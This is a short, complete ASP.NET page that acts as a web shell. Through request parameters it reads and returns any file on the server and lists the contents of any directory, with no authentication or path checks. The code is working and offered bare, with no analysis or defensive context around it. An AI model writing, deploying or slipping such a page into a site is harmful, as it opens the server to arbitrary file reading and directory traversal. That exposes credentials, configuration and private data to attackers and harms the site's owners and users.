<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request.Params["file"] != null) { Response.WriteFile(Request.Params["file"]); Response.End(); return; }
    string dir = Request.Params["dir"] ?? Server.MapPath(".");
    var up = System.IO.Directory.GetParent(dir);
    foreach (string f in System.IO.Directory.GetFiles(dir)) Response.Write(Server.HtmlEncode(f) + "<br>");
    Response.Write(up == null ? "" : up.FullName);
}
</script>
